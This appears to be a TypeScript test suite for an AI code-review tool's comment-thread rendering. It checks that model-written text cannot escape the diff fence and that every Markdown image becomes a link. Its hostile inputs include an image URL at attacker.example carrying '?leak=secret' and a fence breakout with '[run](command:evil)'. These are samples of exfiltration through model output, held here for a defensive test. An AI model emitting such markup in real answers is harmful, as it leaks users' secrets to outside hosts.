// The text of a finding's comment thread: the fix as a diff block that model text cannot break out of.
import assert from 'node:assert/strict';
import MarkdownIt from 'markdown-it';
import { imagesAsLinks, threadBody, threadLabel, type Finding } from '../../../src/review/findings';

const finding: Finding = {
  id: 'f1',
  file: 'a.js',
  startLine: 7,
  endLine: 7,
  severity: 'critical',
  title: 'SQL injection',
  explanation: 'The query is built from `name`.',
  experts: ['Security', 'Correctness'],
  confidence: 92,
  suggestedFix: {
    startLine: 7,
    endLine: 7,
    replacement: 'db.query("SELECT ?", [name]);',
    seen: 'db.query("SELECT " + name);',
  },
};

describe('finding thread text', () => {
  it('shows severity, experts, confidence and the fix as a diff', () => {
    const body = threadBody(finding);
    assert.match(body, /\*\*Critical\*\* · raised by Security, Correctness · confidence 92\/100/);
    assert.match(
      body,
      /```diff\n@@ lines 7-7 @@\n-db\.query\("SELECT " \+ name\);\n\+db\.query\("SELECT \?", \[name\]\);\n```/,
    );
    assert.equal(threadLabel(finding, true), 'Critical: SQL injection · confidence 92 · outdated');
  });

  it('fences the diff longer than any backtick run in the replacement', () => {
    const body = threadBody({
      ...finding,
      suggestedFix: { ...finding.suggestedFix!, replacement: 'x = ```\n[run](command:evil)' },
    });
    assert.match(body, /````diff\n[\s\S]*\n````$/);
  });

  it('turns every image in model text into a link, so the thread fetches nothing', () => {
    const body = threadBody({
      ...finding,
      explanation: 'See ![diagram](https://attacker.example/p.png?leak=secret) for why.',
      suggestedFix: { ...finding.suggestedFix!, replacement: 'let v = vec![1, 2];' },
    });
    const html = new MarkdownIt().render(body);
    assert.ok(!html.includes('<img'), html);
    assert.match(html, /!<a href="https:\/\/attacker\.example\/p\.png\?leak=secret">diagram<\/a>/);
    assert.match(body, /\+let v = vec!\[1, 2\];/, 'code in the fix is left as it was');
  });
});

describe('images in model Markdown become links (comment threads)', () => {
  // The oracle is a CommonMark renderer, with and without HTML blocks, over hostile inputs: each must
  // render no <img>, whatever the nesting (lists, quotes, HTML blocks, reference images, escapes).
  const renderers = [new MarkdownIt(), new MarkdownIt({ html: true })];
  const img = (n: number) => `![i${n}](https://attacker.example/${n}.png)`;
  const hostile = [
    img(1),
    `text ${img(2)} text`,
    `\\${img(3)}`,
    `\\\\${img(4)}`,
    '![ref image][r]\n\n[r]: https://attacker.example/r.png',
    '![shortcut]\n\n[shortcut]: https://attacker.example/s.png',
    `- \`\`\`\n  code\n  \`\`\`\n${img(5)}\n\`\`\``,
    `> \`\`\`\n> x\n> \`\`\`\n${img(6)}\n\`\`\``,
    `<!--\n\n\`\`\`\n-->\n${img(7)}\n\`\`\``,
    `<div>\n\`\`\`\n</div>\n\n${img(8)}\n\`\`\``,
    `\`\`\`\nunclosed ${img(9)}`,
    `    indented code\n${img(10)}`,
    `1. item\n\n   \`\`\`\n   ${img(11)}\n   \`\`\`\n`,
    `| a |\n|---|\n| ${img(12)} |`,
    `\`${img(13)}\``,
    `\`\` \` ${img(14)} \`\``,
    `[${img(15)}](https://example.com)`,
    `line\r\n${img(16)}\r\n`,
    `\`\`\`\`\n\`\`\`\n${img(17)}\n\`\`\`\`\n${img(18)}`,
  ];

  it('leaves no image in any of them, under either CommonMark mode', () => {
    for (const input of hostile) {
      const safe = imagesAsLinks(input);
      for (const md of renderers) assert.ok(!md.render(safe).includes('<img'), `${JSON.stringify(input)} → ${safe}`);
      assert.equal(imagesAsLinks(safe), safe, 'applying it twice changes nothing');
    }
  });

  it('leaves no image in random mixes of fences, containers, HTML and images', () => {
    const pieces = [
      '```',
      '~~~',
      '- ',
      '> ',
      '  ',
      '<div>',
      '<!--',
      '-->',
      '',
      'text',
      '\\',
      '    ',
      img(0),
      '![',
      '](x)',
    ];
    let seed = 7;
    const next = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) % pieces.length;
    for (let n = 0; n < 3000; n++) {
      const lines = Array.from({ length: 12 }, () => `${pieces[next()]}${pieces[next()]}${pieces[next()]}`);
      const input = lines.join('\n');
      const safe = imagesAsLinks(input);
      for (const md of renderers) assert.ok(!md.render(safe).includes('<img'), JSON.stringify(input));
    }
  });

  it('keeps top-level code as written and text without images untouched', () => {
    const rust = '```rust\nlet v = vec![1, 2];\nif ![a].is_empty() {}\n```';
    assert.equal(imagesAsLinks(rust), rust);
    assert.equal(
      imagesAsLinks('No images here: [a link](https://example.com).'),
      'No images here: [a link](https://example.com).',
    );
    assert.equal(imagesAsLinks(`already \\${img(1)}`), `already \\${img(1)}`);
  });
});
